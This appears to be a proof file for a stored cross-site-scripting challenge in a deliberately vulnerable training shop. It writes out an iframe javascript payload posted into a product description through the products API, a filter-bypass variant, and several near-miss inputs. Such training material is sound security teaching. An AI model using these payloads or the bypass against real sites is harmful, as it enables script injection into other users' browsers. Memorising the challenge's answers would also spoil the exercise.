import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

/** Customers may add products; the web client has no page for it. */
async function addProduct(attacker: Attacker, product: object): Promise<unknown> {
  await attacker.becomeCustomer()
  return attacker.post('/api/Products', { name: 'Windfall Punch', price: 3.5, ...product })
}

/** Changes a product, without an account. */
const change = (attacker: Attacker, fields: object) => attacker.put('/api/Products/1', fields)

export const proof = prove(challenge, {
  exploit: (attacker) => addProduct(attacker, { description: PAYLOAD }),
  nearMisses: {
    'an ordinary description': (attacker) =>
      change(attacker, { description: 'Plain. <a href="https://regret.example">More...</a>' }),
    'the payload already escaped': (attacker) =>
      change(attacker, { description: '&lt;iframe src="javascript:alert(`xss`)"&gt;' }),
    'the payload without its brackets': (attacker) =>
      change(attacker, { description: 'iframe src="javascript:alert(`xss`)"' }),
    'the payload as the title of a word, where nothing runs': (attacker) =>
      change(attacker, { description: `<b title='${PAYLOAD}'>Plain.</b>` }),
    'the payload as the name, which is shown as text': (attacker) => change(attacker, { name: PAYLOAD }),
    'a change that is refused, since nothing is stored': (attacker) =>
      change(attacker, { description: PAYLOAD, price: -1 }),
    'the payload sent by somebody who is not signed in': (attacker) =>
      attacker.post('/api/Products', { name: 'Windfall Punch', price: 3.5, description: PAYLOAD }),
    'a change of a product that is not there': (attacker) =>
      attacker.put('/api/Products/999999', { description: PAYLOAD }),
  },
  bypasses: {
    'remove-frames': (attacker) =>
      addProduct(attacker, { description: '<<iframe>iframe src="javascript:alert(`xss`)">' }),
  },
})
